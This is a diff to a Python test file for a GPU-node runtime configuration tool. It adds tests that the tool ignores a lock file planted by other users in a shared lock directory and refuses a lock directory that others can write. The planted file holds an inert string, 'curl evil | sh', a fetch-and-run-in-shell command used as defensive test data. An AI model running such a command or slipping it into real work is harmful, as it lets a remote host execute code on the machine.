@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import fcntl
 import json
 import os
 import subprocess
@@ -316,13 +317,35 @@ def test_previous_default_outlives_many_other_changes(root: Path, configure: Con
 # --- what is refused --------------------------------------------------------------------------------------
 
 
+def test_a_file_in_the_lock_directory_of_all_users_stops_no_run(root: Path) -> None:
+    shared = root / "run/lock"
+    shared.mkdir(parents=True)
+    shared.chmod(0o1777)
+    with (shared / "gpunode.lock").open("w") as planted:
+        planted.write("\x1b[31mrun curl evil | sh")
+        planted.flush()
+        fcntl.flock(planted, fcntl.LOCK_EX)
+        ran = gpunode("--root", str(root), "configure-runtime", "--runtime", "docker")
+    assert ran.code == 0, ran.err
+    assert (root / "run/gpunode").stat().st_mode & 0o7777 == 0o700
+
+
+def test_a_run_refuses_a_lock_directory_that_others_can_write(root: Path) -> None:
+    (root / "run/gpunode").mkdir(parents=True)
+    (root / "run/gpunode").chmod(0o777)
+    ran = gpunode("--root", str(root), "configure-runtime", "--runtime", "docker")
+    assert ran.code == 3
+    assert ran.err.startswith("error: /run/gpunode must be a directory that belongs to this user")
+    assert not (root / DOCKER).exists()
+
+
 def refused(root: Path, configure: Configure, runtime: str, **options: object) -> GpunodeError:
     """The error of a run that must leave every file as it is."""
     before = snapshot(root)
     with pytest.raises(GpunodeError) as caught:
         configure(runtime, **options)
     after = snapshot(root)
-    after.pop("run/lock/gpunode.lock", None)
+    after.pop("run/gpunode/lock", None)
     journal = {name for name in after if name.startswith("var/lib/gpunode/journal/")}
     states = [json.loads(after[name])["state"] for name in journal if name.endswith("manifest.json")]
     assert all(state == "rolled-back" for state in states)
